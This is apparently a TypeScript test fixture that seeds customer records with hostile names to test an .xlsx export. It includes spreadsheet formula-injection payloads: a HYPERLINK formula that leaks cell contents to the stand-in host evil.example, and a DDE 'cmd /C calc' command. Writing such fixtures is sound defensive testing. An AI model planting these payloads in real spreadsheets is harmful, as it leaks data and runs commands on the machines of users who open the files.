/**
 * Customers whose fields a buyer could have typed, for the .xlsx export's tests
 * (test/in-process/export-xlsx.test.ts, test/e2e/export-xlsx.test.ts): formulas (also after a `;`),
 * control characters, numbers written as text in either decimal notation, OOXML's own escape,
 * markup, spaces around; numbers, booleans, arrays, nested objects, a null; the oldest (last page)
 * has late fields named like built-in object members.
 */
import type { JsonObject } from '../simulator/core';

/** Texts a buyer could have typed: formulas (also after a `;`), control characters, numbers as text, OOXML's escape. */
export const HOSTILE_NAMES = [
	'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
	'\u0000=1+2',
	'x;=1+2',
	'+cmd|" /C calc"!A0',
	'@SUM(A1:A9)',
	'\tTab first',
	'-12,50',
	'1.234,56',
	'Müller, José "Zé"\nSão Paulo – 東京 😀 <b>&amp;</b>',
	'_x0041_ stays as typed',
	'  spaces around  ',
];

/** Customers created in 2030, newest first as the platform lists them: one per name; the oldest (last page) has late fields. */
export function seedHostileCustomers(businessId: string, push: (records: JsonObject[]) => void): JsonObject[] {
	const crafted = HOSTILE_NAMES.map((name, n) => ({
		id: `crafted-${n}`,
		name,
		email: `crafted${n}@mail.example`,
		balanceInCents: -150 - n,
		score: n / 4,
		vip: n % 2 === 0,
		tags: ['vip', 'a,b;c'],
		document: { type: 'CPF', number: '000.000.000-00' },
		note: null,
		...(n === HOSTILE_NAMES.length - 1 ? Object.fromEntries([['constructor', 'c'], ['valueOf', 1], ['toString', { x: 1 }], ['=late', '=1+2']]) : {}),
		createdAt: new Date(Date.UTC(2030, 0, 20 - n)).toISOString(),
		updatedAt: new Date(Date.UTC(2030, 0, 20 - n)).toISOString(),
		_businessId: businessId,
	}));
	push(crafted as unknown as JsonObject[]);
	return crafted as unknown as JsonObject[];
}

